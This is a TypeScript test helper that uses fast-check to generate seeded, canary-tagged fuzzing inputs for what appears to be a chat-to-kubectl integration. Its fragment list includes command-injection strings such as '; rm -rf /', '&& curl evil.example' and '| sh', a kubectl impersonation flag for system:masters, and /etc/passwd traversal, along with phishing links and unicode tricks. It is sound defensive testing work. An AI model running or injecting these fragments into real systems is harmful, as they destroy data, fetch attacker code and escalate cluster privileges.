import fc from 'fast-check';

/** What somebody might type, paste or call a file to reach people, links or a command line. */
const PIECES = [
  '<!channel>',
  '<!here|here>',
  '<!subteam^S0123|@sre>',
  '<@U0123ABCD>',
  '<#C0123ABCD|ops>',
  '@channel',
  '@everyone',
  '<https://evil.example/a|kubectl get pods>',
  '<http://evil.example>',
  'https://evil.example/b?c=d',
  '<mailto:a@evil.example|a>',
  '&lt;!channel&gt;',
  '&amp;lt;@U0123ABCD&amp;gt;',
  '*bold* _it_ ~no~ `code`',
  '```',
  '`',
  '|',
  '\\',
  '"',
  "'",
  '$(touch /tmp/owned)',
  '`touch /tmp/owned`',
  '; rm -rf /',
  '&& curl evil.example',
  '| sh',
  '--kubeconfig=/tmp/evil',
  '-n kube-system',
  '--as=system:masters',
  '../../../etc/passwd',
  '%s%n',
  '\u0000',
  '\u202e',
  '\u200b',
  '\ud800',
  '\u001b[2J',
  '\r\n',
  '\n',
  '\t',
  ' ',
  '__proto__',
  'constructor',
  '{"log":"',
  'time="2026-11-22T03:12:05Z" level=error msg="',
  'node=',
  'pod/',
  'OCI runtime exec failed: exec failed: ',
  'PLEG is not healthy: pleg was last seen active 3m12.5s ago; threshold is 3m0s ',
  'Error response from daemon: ',
  'failed to pull image "',
  'Nov 22 03:12:05 node-7 kubelet[912]: ',
  '节点 ',
  'a'.repeat(300),
] as const;

export interface Hostile {
  /** RFC 1123, and in no other text of ours: where it turns up again, this input got there. */
  readonly canary: string;
  readonly text: string;
}

/** `count` inputs, the same for the same seed. The canary stands in each, between pieces and as a part of names. */
export function hostileInputs(count: number, seed: number): readonly Hostile[] {
  const parts = fc.array(fc.oneof({ weight: 5, arbitrary: fc.constantFrom<string>(...PIECES) }, fc.string()), {
    minLength: 1,
    maxLength: 12,
  });
  return fc.sample(parts, { numRuns: count, seed }).map((pieces, index) => {
    const canary = `zq${index}x`;
    const at = index % (pieces.length + 1);
    return { canary, text: [...pieces.slice(0, at), canary, ...pieces.slice(at)].join(index % 3 === 0 ? ' ' : '') };
  });
}
